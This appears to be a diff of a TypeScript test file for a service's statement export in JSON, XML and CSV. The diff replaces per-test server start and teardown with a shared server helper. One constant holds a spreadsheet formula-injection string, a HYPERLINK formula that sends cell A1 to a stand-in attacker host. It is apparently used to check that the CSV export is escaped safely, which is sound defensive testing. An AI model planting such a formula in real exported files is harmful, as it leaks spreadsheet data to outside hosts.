@@ -1,6 +1,6 @@
 // A statement: opening balance, what changed, closing balance; as JSON, XML and CSV.
 import assert from 'node:assert/strict'
-import { after, before, test } from 'node:test'
+import { before, test } from 'node:test'
 import { readCsv } from '../fixtures/read-csv.ts'
 import { readXml } from '../fixtures/read-xml.ts'
 import {
@@ -8,21 +8,19 @@ import {
   checkoutBody,
   clientOf,
   type Json,
-  type RunningServer,
+  ownServer,
   reaches,
-  startServer,
   wire,
 } from '../running-server.ts'
 
 const SANDBOX = 'application/vnd.svc.sandbox.v1+json'
 const EVIL = `=HYPERLINK("http://evil.example?"&A1;"x"),\r\n\tñ`
-let server: RunningServer
+const server = ownServer()
 let key = ''
 let client: Client
 let live: Client
 
 before(async () => {
-  server = await startServer()
   key = server.demo.other_store.private_key
   client = clientOf(server, { key })
   live = clientOf(server, { key, accept: 'application/json' })
@@ -34,7 +32,6 @@ before(async () => {
   assert.equal((await client('POST', `/orders/${id}/refund`, { amount: 2_000 })).status, 200)
   assert.equal((await client('POST', '/me/payouts')).status, 201)
 })
-after(() => server.remove())
 
 const day = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)
 /** Wide enough for every time zone. */
